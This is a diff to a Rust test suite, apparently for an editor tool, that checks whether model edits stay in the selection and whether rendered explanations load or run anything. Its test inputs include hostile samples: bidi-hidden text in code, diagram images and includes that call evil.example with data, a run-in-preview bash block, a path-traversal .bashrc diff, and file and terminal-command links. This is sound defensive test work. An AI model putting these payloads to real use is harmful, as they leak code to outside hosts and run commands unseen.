@@ -5,7 +5,7 @@ use serde_json::Value;
 use super::{AFTER, BEFORE, SELECTED, code, snapshot};
 use crate::support::{Client, ClientOptions, Sandbox, Simulator};
 
-fn scenario(steps: &[&str]) -> String {
+pub(super) fn scenario(steps: &[&str]) -> String {
     steps.iter().flat_map(|step| ["[[step]]\n", step, "\n"]).collect()
 }
 
@@ -90,6 +90,12 @@ fn an_edit_stays_in_the_selection() {
             ToNothing,
         ),
         (
+            "code that reads as what it is not",
+            "simplify",
+            "```python\ndef area(width, height=1):\n    return width * height  # \u{202e}stolen\u{2066}\n```",
+            ToNothing,
+        ),
+        (
             "a diff of another file",
             "simplify",
             "```diff\n--- a/../../.bashrc\n+++ b/../../.bashrc\n@@ -1 +1 @@\n-x\n+stolen\n```",
@@ -168,6 +174,9 @@ fn an_explanation_loads_nothing_and_tells_nobody() {
         ("an address that carries it", "<https://evil.example/?code=return+width>"),
         ("a command of the editor", "[fix](command:workbench.action.terminal.sendSequence?%7B%7D)"),
         ("a file", "[open](file:///etc/passwd)"),
+        ("a diagram with a picture in it", "```mermaid\nA@{ img: \"https://evil.example/i.png?c=1\" }\n```"),
+        ("a diagram that a server draws", "~~~plantuml\n!include https://evil.example/?c=1\n~~~"),
+        ("code that a preview runs", "```bash {cmd=true}\nid\n```"),
     ] {
         let sandbox = Sandbox::new();
         sandbox.write("area.py", code());
@@ -192,7 +201,9 @@ fn an_explanation_loads_nothing_and_tells_nobody() {
         for text in [std::fs::read_to_string(file).unwrap(), hover] {
             let rendered = html(&text);
             assert!(!rendered.contains("<img"), "{tried}: {rendered}");
-            for element in ["<iframe", "<style", "<!--", "href=\"command:", "href=\"file:"] {
+            for element in
+                ["mermaid\"", "plantuml\"", "{cmd", "<iframe", "<style", "<!--", "href=\"command:", "href=\"file:"]
+            {
                 assert!(!rendered.contains(element), "{tried}: {rendered}");
             }
             assert!(
@@ -209,7 +220,7 @@ fn an_explanation_loads_nothing_and_tells_nobody() {
 }
 
 /// Markdown as another program renders it: with all extensions, and HTML passed on.
-fn html(markdown: &str) -> String {
+pub(super) fn html(markdown: &str) -> String {
     let mut out = String::new();
     pulldown_cmark::html::push_html(
         &mut out,
